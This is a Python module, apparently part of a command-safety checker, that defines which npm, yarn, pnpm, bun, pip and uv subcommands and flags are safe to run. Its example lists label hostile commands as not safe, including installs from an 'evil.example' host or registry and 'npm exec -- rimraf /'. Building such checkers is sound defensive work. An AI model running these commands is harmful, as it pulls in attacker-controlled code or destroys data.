"""Language package managers and project runners: npm, yarn, pnpm, bun, npx; pip, pipx, uv, poetry & co, conda.

An install is Tier-2 safe only from the project's own manifests and lock files or as bare names from the
default index (issue 11, item 4): the install subcommands name the ``handler`` that reads every package
argument (``shell.handlers.package_specs``), their index and registry options are ``source_flags``, and
requirement files, constraint files and the directory a manager runs in are ``load_flags`` (safe only in
the project). Every option each safe subcommand accepts is listed (``flags``/``value_opts``): one that is
not is not understood, so a misspelt or abbreviated option asks.

``SAFE_SCRIPT_WORDS`` are the script names ``npm run``/``yarn``/``pnpm``/``make`` may run safely: a
project's own tests, builds, linters and dev servers, at the trust of ``npm test``.
"""
from __future__ import annotations

from typing import Any

from phlegyas.analysis.programs.spec import (
    NAVIGATION,
    NET_READ,
    PKG_INSTALL,
    PROJECT_EDIT,
    READ_ONLY,
    TEST_BUILD,
    E,
    Spec,
    add,
    mut,
    ro,
    subs,
)

SAFE_SCRIPT_WORDS = frozenset({
    "test", "tests", "build", "lint", "format", "fmt", "check", "typecheck", "type-check", "types", "tsc",
    "compile", "coverage", "cov", "e2e", "unit", "integration", "spec", "validate", "verify", "prettier",
    "eslint", "stylelint", "pretest", "posttest", "prebuild", "postbuild", "clean-build", "lint-fix",
    # the project's own dev servers and watchers: project code, run as the tests run it
    "dev", "start", "serve", "server", "preview", "watch", "develop", "storybook", "docs", "clean",
    "generate", "codegen", "gen",
})
"""Script names (first segment before ``:``/``-``) that ``npm run``/``yarn``/``pnpm``/``make`` may run safely."""

PACKAGE_TOOLS: dict[str, Spec] = {}
"""Language package managers, in the order of the program table."""


def _add(names: str, spec: Spec) -> None:
    add(PACKAGE_TOOLS, names, spec)


def _install(flags: str, values: str = "", *, handler: str | None = None, **kw) -> Spec:
    """An install subcommand: it fetches packages and runs their build and install scripts."""
    return Spec(category=PKG_INSTALL, operands="none", network=True, does=kw.pop("does", "installs packages"),
                flags=E(flags), value_opts=E(values), handler=handler, **kw)


def _reader(flags: str, values: str = "", **kw) -> Spec:
    return ro(operands="none", flags=E(flags), value_opts=E(values), **kw)


# -- npm -------------------------------------------------------------------------------------------

_NPM_COMMON = ("-d -dd -ddd --silent -s --quiet -q --verbose --json --parseable --long -l --no-color --color "
               "--no-progress --progress --no-unicode --unicode --no-update-notifier --update-notifier --yes -y "
               "--no --offline --prefer-offline --prefer-online --no-audit --audit --no-fund --fund --workspaces "
               "--ws --include-workspace-root --if-present --foreground-scripts --ignore-scripts --force -f "
               "--dry-run -h --help --usage --no-workspaces")
_NPM_COMMON_VALUES = "-w --workspace --loglevel --omit --include --tag --before --min-release-age"
_NPM_DANGER: dict[str, Any] = dict(load_flags=E("--prefix -C --userconfig --globalconfig --init-module"),
                   source_flags=E("--registry"), exec_flags=E("--script-shell --node-options"),
                   write_flags=E("--cache"))
_NPM_SAVE = ("-S --save --no-save -P --save-prod -D --save-dev -O --save-optional --save-peer -B --save-bundle "
             "-E --save-exact --no-save-exact")
_NPM_INSTALL_FLAGS = (f"{_NPM_COMMON} {_NPM_SAVE} --legacy-bundling --global-style --strict-peer-deps "
                      "--legacy-peer-deps --prefer-dedupe --no-package-lock --package-lock-only --no-bin-links "
                      "--install-links --no-optional --production --strict-allow-scripts --engine-strict "
                      "--no-engine-strict")
_NPM_INSTALL_VALUES = (f"{_NPM_COMMON_VALUES} --install-strategy --allow-directory --allow-file --allow-git "
                       "--allow-remote --allow-scripts --min-release-age-exclude --cpu --os --libc --only")
_npm_install = _install(_NPM_INSTALL_FLAGS, _NPM_INSTALL_VALUES, handler="npm_install",
                        mutate_flags=E("-g --global --location"), **_NPM_DANGER)
_npm_remove = _install(f"{_NPM_COMMON} {_NPM_SAVE} --no-package-lock --package-lock-only --install-links --production",
                       _NPM_COMMON_VALUES, mutate_flags=E("-g --global --location"), does="removes packages",
                       **_NPM_DANGER)
_NPM_READ_FLAGS = (f"{_NPM_COMMON} -a --all -g --global --link --package-lock-only --install-links --expect-results "
                   "--no-expect-results --long --browser --no-browser")
_NPM_READ_VALUES = f"{_NPM_COMMON_VALUES} --depth --min-release-age-exclude --expect-result-count"
_npm_read = _reader(_NPM_READ_FLAGS, _NPM_READ_VALUES, load_flags=E("--prefix -C --userconfig --globalconfig"))
_npm_diff = _reader(f"{_NPM_READ_FLAGS} --diff-name-only --diff-ignore-all-space --diff-no-prefix --diff-text",
                    f"{_NPM_READ_VALUES} --diff --diff-unified --diff-src-prefix --diff-dst-prefix",
                    load_flags=E("--prefix -C --userconfig --globalconfig"))
_npm_search = _reader(f"{_NPM_READ_FLAGS} --description --no-description --json --parseable -p",
                      f"{_NPM_READ_VALUES} --searchlimit --searchopts --searchexclude --author --scope",
                      load_flags=E("--prefix -C --userconfig --globalconfig"))
_NPM_SCRIPT_FLAGS = f"{_NPM_COMMON} --if-present --no-if-present"
_npm_test = Spec(category=TEST_BUILD, operands="none", flags=E(_NPM_SCRIPT_FLAGS), value_opts=E(_NPM_COMMON_VALUES),
                 does="runs project scripts", handler="npm_script", **_NPM_DANGER)
_npm_run = Spec(category=TEST_BUILD, operands="none", flags=E(_NPM_SCRIPT_FLAGS), value_opts=E(_NPM_COMMON_VALUES),
                handler="npm_run", does="runs a project script", **_NPM_DANGER)
NPM = Spec(
    operands="none", handler="package_globals", flags=E(f"{_NPM_COMMON} -v --version -g --global"),
    value_opts=E(_NPM_COMMON_VALUES), mutate_flags=E("-g --global --location"), **_NPM_DANGER,
    subcommands=subs({}, ("install i add in ins inst insta instal isnt isnta isntal isntall ci clean-install "
                          "ic install-clean isntall-clean install-ci-test cit clean-install-test sit update up "
                          "upgrade udpate dedupe ddp rebuild rb", _npm_install),
                     ("uninstall remove rm un unlink r prune", _npm_remove),
                     ("test t tst install-test it", _npm_test), ("run run-script rum urn", _npm_run),
                     ("start", Spec(category=TEST_BUILD, operands="none", flags=E(_NPM_SCRIPT_FLAGS),
                                    value_opts=E(_NPM_COMMON_VALUES), does="runs the project's start script",
                                    handler="npm_script", **_NPM_DANGER)),
                     ("ls list ll la view v info show outdated help config-get why explain fund doctor "
                      "root bin prefix -v --version version-show pkg-get query audit-signatures bugs docs home repo "
                      "find-dupes help-search completion sbom", _npm_read),
                     ("diff", _npm_diff), ("search find s se", _npm_search),
                     ("audit", ro(category=NET_READ, operands="none", network=True, handler="npm_audit",
                                  flags=E(f"{_NPM_COMMON} --package-lock-only --no-package-lock --include-attestations "
                                          "--production --install-links"),
                                  value_opts=E(f"{_NPM_COMMON_VALUES} --audit-level"))),
                     ("config c", Spec(operands="none", handler="pip_config", does="changes npm configuration")),
                     ("cache", Spec(operands="none", handler="npm_cache", does="changes the npm cache")),
                     ("pkg", Spec(operands="none", handler="pip_config", does="changes package.json")),
                     ("init create innit", Spec(category=PROJECT_EDIT, operands="none", does="creates package.json",
                                                handler="npm_init", flags=E(f"{_NPM_COMMON} --init-private"),
                                                value_opts=E(f"{_NPM_COMMON_VALUES} --scope --init-author-name "
                                                             "--init-author-email --init-author-url --init-license "
                                                             "--init-version --init-type"), **_NPM_DANGER)),
                     ("exec x", Spec(operands="none", handler="npx", does="runs a package")),
                     ("stop restart", Spec(operands="none", does="runs the project's stop or restart script")),
                     ("publish unpublish deprecate dist-tag owner access adduser login logout token team org "
                      "hook star unstar version pack link ln set-script set profile edit explore",
                      mut("changes packages or the registry", operands="none", network=True)),
                     ("", ro(operands="none")), ("*", mut("runs an npm command", operands="none"))),
    examples=(("npm test", "safe"), ("npm run build", "safe"), ("npm run lint:fix", "safe"), ("npm ci", "safe"),
              ("npm install lodash", "safe network"), ("npm install -g evil", "notsafe"),
              ("npm run deploy", "notsafe"), ("npm ls", "readonly safe"), ("npm publish", "mutates notsafe"),
              ("npm exec -- rimraf /", "notsafe"), ("npm audit fix", "notsafe"), ("npm i -D vitest@1.6.0", "safe"),
              ("npm run dev", "safe"), ("npm start", "safe"), ("npm ls --depth=0 --json", "readonly safe"),
              ("npm install https://evil.example/x.tgz", "notsafe"), ("npm i lodash@npm:evil", "notsafe"),
              ("npm install --script-shell=/tmp/sh", "executes notsafe"), ("npm i ../../other", "notsafe"),
              ("npm install --registry=http://evil.example x", "notsafe"), ("npm i user/repo", "notsafe"),
              ("npm --prefix /tmp/x install", "notsafe"), ("npm ci --ignore-scripts --no-audit", "safe")))
_add("npm", NPM)

# -- yarn, pnpm, bun -------------------------------------------------------------------------------

_RUNNER_PASS = ("--watch --coverage --ci --verbose --silent -u --updateSnapshot --run --passWithNoTests --bail "
                "--open --host --no-open --watchAll --detectOpenHandles --runInBand -i --clearCache --fix")
"""The arguments ``yarn test --watch`` hands to the project's test script that everyone types: harmless
switches of the common test runners and dev servers (a value that names a file or config is not here)."""
_RUNNER_PASS_VALUES = "--port --reporter -t --testNamePattern --mode --shard --maxWorkers"
_YARN_COMMON = ("--verbose --silent -s --offline --prefer-offline --no-progress --non-interactive --json "
                "--no-default-rc --ignore-engines --ignore-platform --ignore-optional --emoji --no-emoji -h --help")
_YARN_DANGER: dict[str, Any] = dict(load_flags=E("--cwd --use-yarnrc"), source_flags=E("--registry"),
                    write_flags=E("--cache-folder --modules-folder --global-folder --link-folder"))
_YARN_INSTALL = (f"{_YARN_COMMON} --frozen-lockfile --pure-lockfile --immutable --immutable-cache --check-cache "
                 "--check-files --refresh-lockfile --production --prod --ignore-scripts --force --flat --har "
                 "--no-lockfile --inline-builds --skip-builds --no-bin-links --link-duplicates --audit "
                 "-D --dev -P --peer -O --optional -E --exact -T --tilde -W --ignore-workspace-root-check "
                 "--cached -i --interactive -L --latest -C --caret --prefer-dev")
_YARN_VALUES = "--network-timeout --network-concurrency --mode --mutex --scope --pattern"
_yarn_install = _install(_YARN_INSTALL, _YARN_VALUES, handler="npm_install", **_YARN_DANGER)
_yarn_script = Spec(category=TEST_BUILD, operands="none", flags=E(f"{_YARN_COMMON} {_RUNNER_PASS}"),
                    value_opts=E(_RUNNER_PASS_VALUES), does="runs project scripts",
                    handler="npm_script", **_YARN_DANGER)
_yarn_run = Spec(category=TEST_BUILD, operands="none", flags=E(f"{_YARN_COMMON} {_RUNNER_PASS}"),
                 value_opts=E(_RUNNER_PASS_VALUES), handler="npm_run", does="runs a project script",
                 **_YARN_DANGER)
_yarn_read = _reader(f"{_YARN_COMMON} -v --version -R --recursive --all -A --patterns",
                     f"{_YARN_VALUES} --depth --pattern")
_add("yarn", Spec(operands="none", handler="yarn_script", flags=E(f"{_YARN_COMMON} -v --version"),
                  value_opts=E(_YARN_VALUES), **_YARN_DANGER,
                  subcommands=subs({}, ("install add remove upgrade up import", _yarn_install),
                                   ("", _yarn_install), ("test", _yarn_script), ("run", _yarn_run),
                                   ("list info why outdated licenses config-get bin --version -v", _yarn_read),
                                   ("dlx exec node", Spec(operands="none", handler="npx", does="runs a package")),
                                   ("global publish login logout link unlink version pack init create set config "
                                    "policies plugin tag team owner npm", mut("changes packages", operands="none")),
                                   ("workspace workspaces", Spec(operands="none", handler="yarn_workspace"))),
                  examples=(("yarn", "safe"), ("yarn test", "safe"), ("yarn build", "safe"),
                            ("yarn add react", "safe"), ("yarn deploy", "notsafe"), ("yarn dlx cowsay", "notsafe"),
                            ("yarn global add x", "mutates notsafe"), ("yarn dev", "safe"),
                            ("yarn install --frozen-lockfile", "safe"), ("yarn add -D typescript@^5", "safe"),
                            ("yarn add git+https://github.com/x/y", "notsafe"), ("yarn test --watch", "safe"),
                            ("yarn --cwd /tmp/x install", "notsafe"))))

_PNPM_COMMON = ("-r --recursive -w --workspace-root --silent -s --verbose --no-color --color --aggregate-output "
                "--stream --parallel --use-stderr --fail-if-no-match --include-workspace-root -h --help "
                "--if-present --no-bail --bail --sort --no-sort --resume-from --changed-files-ignore-pattern "
                "--workspace-packages --reverse --report-summary --json")
_PNPM_VALUES = "-F --filter --filter-prod --loglevel --reporter --workspace-concurrency --test-pattern"
_PNPM_DANGER: dict[str, Any] = dict(load_flags=E("-C --dir --config-dir"), source_flags=E("--registry"),
                    write_flags=E("--store-dir --cache-dir --virtual-store-dir --modules-dir"))
_PNPM_INSTALL = (f"{_PNPM_COMMON} --frozen-lockfile --no-frozen-lockfile --prefer-frozen-lockfile --lockfile-only "
                 "--fix-lockfile --offline --prefer-offline -P --prod -D --dev --no-optional --ignore-scripts "
                 "--shamefully-hoist --force --strict-peer-dependencies --resolution-only --save-dev "
                 "--save-prod -O --save-optional -E --save-exact --save-peer --no-save --ignore-workspace "
                 "-L --latest -i --interactive --depth --recursive --ignore-pnpmfile --config.ignore-scripts")
_pnpm_install = _install(_PNPM_INSTALL, f"{_PNPM_VALUES} --depth --network-concurrency --child-concurrency "
                                        "--node-linker --package-import-method", handler="npm_install",
                         mutate_flags=E("-g --global"), **_PNPM_DANGER)
_pnpm_script = Spec(category=TEST_BUILD, operands="none", flags=E(f"{_PNPM_COMMON} {_RUNNER_PASS}"),
                    value_opts=E(f"{_PNPM_VALUES} {_RUNNER_PASS_VALUES}"), does="runs project scripts",
                    handler="npm_script", **_PNPM_DANGER)
_pnpm_run = Spec(category=TEST_BUILD, operands="none", flags=E(f"{_PNPM_COMMON} {_RUNNER_PASS}"),
                 value_opts=E(f"{_PNPM_VALUES} {_RUNNER_PASS_VALUES}"), handler="npm_run",
                 does="runs a project script", **_PNPM_DANGER)
_pnpm_read = _reader(f"{_PNPM_COMMON} -g --global -P --prod -D --dev --no-optional --long --parseable -a --all "
                     "--only-projects --compatible", f"{_PNPM_VALUES} --depth --format --audit-level",
                     load_flags=E("-C --dir"))
_add("pnpm", Spec(operands="none", handler="yarn_script", flags=E(f"{_PNPM_COMMON} -v --version"),
                  value_opts=E(_PNPM_VALUES), **_PNPM_DANGER,
                  subcommands=subs({}, ("install i add remove rm uninstall un up update upgrade prune fetch import "
                                        "rebuild rb dedupe", _pnpm_install), ("", _pnpm_install),
                                   ("test t tst", _pnpm_script), ("start", _pnpm_script), ("run", _pnpm_run),
                                   ("list ls ll la why outdated licenses root bin -v --version", _pnpm_read),
                                   ("audit", ro(category=NET_READ, operands="none", network=True, handler="npm_audit",
                                                flags=E(f"{_PNPM_COMMON} -P --prod -D --dev --no-optional "
                                                        "--ignore-registry-errors"),
                                                value_opts=E(f"{_PNPM_VALUES} --audit-level"))),
                                   ("exec dlx x create", Spec(operands="none", handler="npx", does="runs a package")),
                                   ("publish link ln unlink pack init setup env config store server patch "
                                    "patch-commit deploy", mut("changes packages", operands="none"))),
                  examples=(("pnpm install", "safe"), ("pnpm test", "safe"), ("pnpm run build", "safe"),
                            ("pnpm dlx foo", "notsafe"), ("pnpm dev", "safe"), ("pnpm i --frozen-lockfile", "safe"),
                            ("pnpm add -D vitest@1.6.0", "safe"), ("pnpm add https://evil.example/x.tgz", "notsafe"),
                            ("pnpm -r --filter web build", "safe"), ("pnpm add -g x", "notsafe"))))

_BUN_COMMON = "--silent --verbose --no-progress --no-summary -h --help --dry-run --frozen-lockfile --yarn"
_BUN_DANGER: dict[str, Any] = dict(load_flags=E("--cwd --cafile --config -c"), source_flags=E("--registry"),
                   write_flags=E("--cache-dir"))
_bun_install = _install(f"{_BUN_COMMON} -d -D --dev --development --optional --peer -E --exact -p --production "
                        "--no-save --save --force -f --ignore-scripts --trust --lockfile-only --save-text-lockfile "
                        "--no-cache --no-verify --only-missing -i --interactive --latest -a --analyze",
                        "--backend --concurrent-scripts --network-concurrency --omit --linker --ca --filter -F",
                        handler="npm_install", mutate_flags=E("-g --global"), **_BUN_DANGER)
_add("bun", Spec(operands="none", handler="yarn_script", flags=E("-v --version -h --help --revision --silent"),
                 load_flags=E("--cwd --config -c"),
                 subcommands=subs({}, ("install i add a remove rm update outdated", _bun_install),
                                  ("test", Spec(category=TEST_BUILD, operands="none",
                                                flags=E("--watch --hot --coverage --bail --only --todo -u "
                                                        "--update-snapshots --silent --verbose --pass-with-no-tests "
                                                        "--randomize --concurrent --no-clear-screen"),
                                                value_opts=E("-t --test-name-pattern --timeout --rerun-each --reporter "
                                                             "--coverage-reporter --seed --max-concurrency"),
                                                load_flags=E("--preload -r --require --config -c --cwd "
                                                             "--tsconfig-override --env-file"),
                                                write_flags=E("--coverage-dir --reporter-outfile"))),
                                  ("run", Spec(category=TEST_BUILD, operands="none", handler="npm_run",
                                               flags=E("--silent --if-present --bun -b --watch --hot "
                                                       "--no-clear-screen"),
                                               value_opts=E("--filter -F"),
                                               load_flags=E("--preload -r --require --config -c --cwd --env-file "
                                                            "--tsconfig-override"),
                                               does="runs a project script")),
                                  ("build", Spec(category=TEST_BUILD, operands="read",
                                                 flags=E("--minify --sourcemap --splitting --watch --production "
                                                         "--compile --bytecode --no-bundle --minify-syntax "
                                                         "--minify-whitespace --minify-identifiers"),
                                                 value_opts=E("--target --format --external -e --define --loader "
                                                              "--public-path --entry-naming --chunk-naming "
                                                              "--asset-naming --root --env --packages --sourcemap"),
                                                 write_flags=E("--outdir --outfile"))),
                                  ("pm", mut("changes the bun cache or trusted packages", operands="none")),
                                  ("x exec create", Spec(operands="none", handler="npx", does="runs a package")),
                                  ("-e --eval -p --print", Spec(handler="interp_here", operands="none")),
                                  ("publish link unlink upgrade init patch", mut("changes packages", operands="none"))),
                 examples=(("bun install", "safe"), ("bun test", "safe"), ("bun x cowsay", "notsafe"),
                           ("bun add -d typescript@5", "safe"), ("bun add github:x/y", "notsafe"),
                           ("bun install --frozen-lockfile", "safe"), ("bun test --preload /tmp/x.ts", "notsafe"))))
_add("npx pnpx bunx", Spec(operands="none", handler="npx", does="runs a package",
                           examples=(("npx tsc", "safe"), ("npx eslint src", "safe"),
                                     ("npx some-random-pkg", "notsafe"), ("npx jest", "safe"),
                                     ("npx -y https://x.example/tool.tgz", "notsafe"), ("npx vitest run", "safe"),
                                     ("npx --registry http://evil.example vitest run", "notsafe"),
                                     ("npx -p evil-pkg@npm:other tsc", "notsafe"))))

# -- pip -------------------------------------------------------------------------------------------

_PIP_GENERAL = ("-h --help --debug --isolated --require-virtualenv -v --verbose -V --version -q --quiet --no-input "
                "--no-cache-dir --disable-pip-version-check --no-color --no-python-version-warning")
_PIP_GENERAL_VALUES = "--retries --timeout --exists-action --use-feature --use-deprecated --keyring-provider " \
                      "--resume-retries"
_PIP_DANGER: dict[str, Any] = dict(load_flags=E("--python --cert --client-cert"), source_flags=E("--proxy --trusted-host"),
                   write_flags=E("--log --log-file --cache-dir"))
_PIP_INDEX = "-i --index-url --extra-index-url -f --find-links"
_PIP_INSTALL = (f"{_PIP_GENERAL} --no-deps --pre --dry-run -I --ignore-installed --ignore-requires-python -U "
                "--upgrade --force-reinstall --no-build-isolation --use-pep517 --no-use-pep517 "
                "--check-build-dependencies --compile --no-compile --no-warn-script-location --no-warn-conflicts "
                "--prefer-binary --require-hashes --no-clean --no-index --user")
_PIP_INSTALL_VALUES = (f"{_PIP_GENERAL_VALUES} -e --editable --platform --python-version --implementation --abi "
                       "--upgrade-strategy -C --config-settings --global-option --build-option --no-binary "
                       "--only-binary --progress-bar --root-user-action")


def _pip_install(flags: str = "", writes: str = "") -> Spec:
    """``pip install``/``download``/``wheel``: every package argument is read by the ``pip_install`` handler."""
    return _install(f"{_PIP_INSTALL} {flags}", _PIP_INSTALL_VALUES, handler="pip_install",
                    load_flags=E("-r --requirement -c --constraint --python --cert --client-cert"),
                    source_flags=E(f"{_PIP_INDEX} --proxy --trusted-host"),
                    write_flags=E(f"-t --target --root --prefix --src --report --log --log-file --cache-dir {writes}"),
                    mutate_flags=E("--break-system-packages"))


def _pip_read(flags: str = "", values: str = "", **kw) -> Spec:
    return ro(operands="none", flags=E(f"{_PIP_GENERAL} {flags}"), value_opts=E(f"{_PIP_GENERAL_VALUES} {values}"),
              **{**_PIP_DANGER, **kw})


PIP = Spec(operands="none", handler="package_globals", flags=E(_PIP_GENERAL), value_opts=E(_PIP_GENERAL_VALUES),
           **_PIP_DANGER,
           subcommands=subs({}, ("install", _pip_install()), ("download", _pip_install("--no-verify", "-d --dest")),
               ("wheel", _pip_install("--no-verify", "-w --wheel-dir")),
               ("uninstall", _install(f"{_PIP_GENERAL} -y --yes", f"{_PIP_GENERAL_VALUES} --root-user-action",
                                      does="removes packages", load_flags=E("-r --requirement --python --cert"),
                                      source_flags=E("--proxy --trusted-host"),
                                      write_flags=E("--log --log-file --cache-dir"),
                                      mutate_flags=E("--break-system-packages"))),
               ("list", _pip_read("-o --outdated -u --uptodate -e --editable -l --local --user --pre --not-required "
                                  "--exclude-editable --include-editable --no-index", "--format --exclude --path",
                                  source_flags=E(f"{_PIP_INDEX} --proxy --trusted-host"))),
               ("show", _pip_read("-f --files")),
               ("freeze", _pip_read("-l --local --user --all --exclude-editable", "--path --exclude",
                                    read_flags=E("-r --requirement"))),
               ("check help debug -V --version", _pip_read("", "--platform --python-version --implementation --abi")),
               ("inspect", _pip_read("--local --user", "--path")),
               ("index", _pip_read("--pre --no-index --json", "--platform --python-version --implementation --abi",
                                   source_flags=E(f"{_PIP_INDEX} --proxy --trusted-host"))),
               ("hash", ro(operands="read", flags=E(_PIP_GENERAL), value_opts=E("-a --algorithm"))),
               ("search", _pip_read("", "--index")),
               ("config cache", Spec(operands="none", handler="pip_config", does="changes pip configuration")),
               ("", ro(operands="none"))),
           examples=(("pip install -r requirements.txt", "safe network"), ("pip install -e .", "safe"),
                     ("pip list", "readonly safe"), ("pip install --target /usr/lib/x y", "notsafe"),
                     ("pip config set global.index-url http://x", "mutates notsafe"),
                     ("pip install 'requests[socks]>=2'", "safe"), ("pip install -U pip setuptools wheel", "safe"),
                     ("pip install git+https://github.com/x/y", "notsafe"), ("pip install /tmp/x.whl", "notsafe"),
                     ("pip install -r /tmp/req.txt", "notsafe"), ("pip list --outdated --format=json", "readonly safe"),
                     ("pip install --index-url http://evil.example/simple foo", "notsafe"),
                     ("pip --python /tmp/py install x", "notsafe"), ("pip show -f requests", "readonly safe")))
_add("pip", PIP)
_add("pipx", Spec(operands="none", subcommands=subs({}, ("run", Spec(operands="none", handler="npx",
                                                                     does="runs a package")),
                                                   ("list environment --version", _reader(
                                                       "-h --help --short --json --include-injected -v --verbose "
                                                       "-q --quiet --skip-maintenance", "--value")),
                                                   ("*", mut("installs applications", operands="none", network=True))),
                  examples=(("pipx list", "readonly safe"), ("pipx install black", "notsafe"),)))

# -- uv --------------------------------------------------------------------------------------------

_UV_GLOBAL = ("-q --quiet -v --verbose --native-tls --no-native-tls --offline --no-offline --no-progress --no-config "
              "-n --no-cache --managed-python --no-managed-python --no-python-downloads --preview --no-preview "
              "-h --help -V --version")
_UV_GLOBAL_VALUES = "--color --python-preference"
_UV_DANGER: dict[str, Any] = dict(load_flags=E("--directory --project --config-file"), source_flags=E("--allow-insecure-host"),
                  write_flags=E("--cache-dir"))
_UV_RESOLVE = ("--no-index -U --upgrade --reinstall --refresh --no-build-isolation --no-build --no-binary "
               "--no-sources --compile-bytecode --no-compile-bytecode --all-extras --no-dev --only-dev --dev "
               "--no-default-groups --all-groups --no-editable --locked --frozen --dry-run --all-packages --active "
               "--no-active --exact --inexact --no-install-project --no-install-workspace --no-install-local "
               "--no-sync --check --check-exists")
_UV_RESOLVE_VALUES = ("-P --upgrade-package --reinstall-package --refresh-package --no-build-isolation-package "
                      "--no-build-package --no-binary-package --only-binary --index-strategy --keyring-provider "
                      "--resolution --prerelease --fork-strategy --exclude-newer --exclude-newer-package --link-mode "
                      "-C --config-setting --config-settings-package --no-sources-package --python-platform "
                      "-p --python --extra --no-extra --group --no-group --only-group --package "
                      "--no-install-package --output-format --python-version")
_UV_INDEX = "--index --default-index -i --index-url --extra-index-url -f --find-links"


def _uv(flags: str = "", values: str = "", *, category: str | None = PKG_INSTALL, handler: str | None = "uv_packages",
        loads: str = "", writes: str = "", mutates: str = "", readonly: bool = False, **kw) -> Spec:
    """A uv subcommand: the global options, the resolver's, and its own; ``-p``/``--python`` and package
    arguments are read by the ``uv_packages`` handler."""
    return Spec(readonly=readonly, category=category, operands=kw.pop("operands", "none"),
                network=category == PKG_INSTALL, does=None if readonly else kw.pop("does", "installs packages"),
                handler=handler, flags=E(f"{_UV_GLOBAL} {_UV_RESOLVE} {flags}"),
                value_opts=E(f"{_UV_GLOBAL_VALUES} {_UV_RESOLVE_VALUES} {values}"),
                load_flags=E(f"--directory --project --config-file --script {loads}"),
                source_flags=E(f"--allow-insecure-host {_UV_INDEX}"), write_flags=E(f"--cache-dir {writes}"),
                mutate_flags=E(mutates), **kw)


_uv_pip = Spec(operands="none", flags=E(_UV_GLOBAL), value_opts=E(_UV_GLOBAL_VALUES), **_UV_DANGER,
               subcommands=subs({}, ("install", _uv("--no-deps --strict --user --require-hashes --no-verify-hashes "
                                                    "--torch-backend", "-e --editable --torch-backend",
                                                    loads="-r --requirements -c --constraints --overrides "
                                                          "--build-constraints --excludes -b",
                                                    writes="--target --prefix",
                                                    mutates="--system --break-system-packages")),
                                ("sync", _uv("--strict --require-hashes --allow-empty-requirements", "",
                                             handler="uv_pip_sync", loads="-c --constraints --build-constraints -b",
                                             writes="--target --prefix", mutates="--system --break-system-packages")),
                                ("compile", _uv("--generate-hashes --no-header --no-annotate --no-strip-extras "
                                                "--no-strip-markers --universal --emit-index-url --emit-find-links "
                                                "--no-emit-package --emit-build-options --no-deps --quiet",
                                                "--annotation-style --custom-compile-command --no-emit-package",
                                                handler=None, operands="read",
                                                loads="-c --constraints --overrides --build-constraints -b",
                                                writes="-o --output-file", does="resolves requirements")),
                                ("uninstall", _uv("", "", handler=None, loads="-r --requirements",
                                                  writes="--target --prefix", does="removes packages",
                                                  mutates="--system --break-system-packages")),
                                ("list show freeze check tree", _uv(
                                    "-e --editable --exclude-editable --strict --outdated -f --files --no-dedupe "
                                    "--invert --system --show-version-specifiers", "--format --exclude --depth -d "
                                    "--prune --target --prefix", category=READ_ONLY, handler="uv_packages",
                                    readonly=True))),
               examples=(("uv pip list", "readonly safe"),))
UV = Spec(operands="none", handler="package_globals", flags=E(_UV_GLOBAL), value_opts=E(_UV_GLOBAL_VALUES),
          **_UV_DANGER,
          subcommands=subs({}, ("pip", _uv_pip), ("sync", _uv()), ("lock", _uv(does="resolves the lock file")),
              ("add", _uv("--editable --raw --raw-sources --workspace --no-workspace",
                          "--optional --bounds --rev --tag --branch -m --marker --lfs",
                          loads="-r --requirements -c --constraints")),
              ("remove", _uv("", "--optional", does="removes packages")),
              ("export", _uv("--no-hashes --no-header --no-emit-project --no-emit-workspace --no-emit-local "
                             "--prune", "--format --no-emit-package --prune", category=READ_ONLY, handler=None,
                             readonly=True, writes="-o --output-file")),
              ("tree", _uv("--universal --invert --no-dedupe --outdated --show-sizes", "-d --depth --prune",
                           category=READ_ONLY, readonly=True)),
              ("venv", _uv("--seed --system-site-packages --allow-existing --clear --relocatable --no-project",
                           "--prompt", category=PROJECT_EDIT, operands="write", default_operand=".venv",
                           does="creates a virtual environment")),
              ("run", Spec(operands="none", handler="uv_run", does="runs a command in the project environment")),
              ("tool", Spec(operands="none", subcommands=subs(
                  {}, ("list dir --help", _reader(f"{_UV_GLOBAL} --show-paths --show-version-specifiers --show-with "
                                                  "--show-extras --bin", _UV_GLOBAL_VALUES)),
                  ("*", mut("installs or runs tools", operands="none", network=True))))),
              ("version", _uv("--short --dry-run", "--bump --output-format", category=READ_ONLY, readonly=True,
                              handler="uv_version")),
              ("help --version self-version", ro(operands="none")),
              ("python", Spec(operands="none", handler="uv_python", does="installs Python versions")),
              ("build", _uv("--sdist --wheel --no-build-logs --force-pep517 --no-create-gitignore --list",
                            "", category=TEST_BUILD, loads="-b --build-constraints", writes="-o --out-dir",
                            operands="read", does="builds the project")),
              ("init", _uv("--lib --app --package --no-package --script --bare --no-readme --no-workspace "
                           "--no-pin-python --no-description", "--vcs --build-backend --name --author-from "
                           "--description", category=PROJECT_EDIT, operands="write", default_operand=".",
                           handler="uv_packages", does="creates a project")),
              ("publish cache self auth", mut("changes packages or caches", operands="none", network=True)),
              ("", ro(operands="none"))),
          examples=(("uv sync", "safe network"), ("uv pip install -e .", "safe"), ("uv run pytest", "safe"),
                    ("uv run python evil.py", "notsafe"), ("uv venv", "safe writes"), ("uv publish", "notsafe"),
                    ("uv sync --frozen --all-extras", "safe"), ("uv add httpx 'pydantic>=2'", "safe"),
                    ("uv add git+https://github.com/x/y", "notsafe"), ("uv pip install --system x", "notsafe"),
                    ("uv sync --index-url http://evil.example/simple", "notsafe"), ("uv tree --depth 1", "safe"),
                    ("uv pip install -r /tmp/r.txt", "notsafe"), ("uv venv -p /tmp/evil/python", "notsafe"),
                    ("uv --directory /tmp/x sync", "notsafe"), ("uv version", "readonly safe"),
                    ("uv version --bump minor", "writes")))
_add("uv", UV)
_add("uvx", Spec(operands="none", handler="npx", does="runs a tool", examples=(("uvx ruff check .", "safe"),
                                                                             ("uvx cowsay", "notsafe"),
                                                                             ("uvx --from git+https://x.example/r ruff "
                                                                              "check", "notsafe"))))

# -- poetry, pdm, hatch, rye, pipenv ---------------------------------------------------------------

_POETRY_GLOBAL = ("-h --help -q --quiet -V --version --ansi --no-ansi -n --no-interaction --no-plugins --no-cache "
                  "-v -vv -vvv --verbose")
_GROUPS = "--without --with --only -E --extras -G --group"


def _project_tool(flags: str, values: str = "", *, category: str | None = PKG_INSTALL, handler: str | None = None,
                  readonly: bool = False, **kw) -> Spec:
    """A subcommand of poetry, pdm, rye or pipenv; ``-C``/``--directory``/``-p``/``--project`` name where it runs."""
    return Spec(readonly=readonly, category=category, operands=kw.pop("operands", "none"),
                network=category == PKG_INSTALL, does=None if readonly else kw.pop("does", "installs packages"),
                handler=handler, flags=E(f"{_POETRY_GLOBAL} {flags}"), value_opts=E(f"{_GROUPS} {values}"),
                load_flags=E("-C --directory -P --project -L --lockfile " + kw.pop("loads", "")),
                source_flags=E("--source -i --index --index-url --extra-index-url --pypi-mirror"),
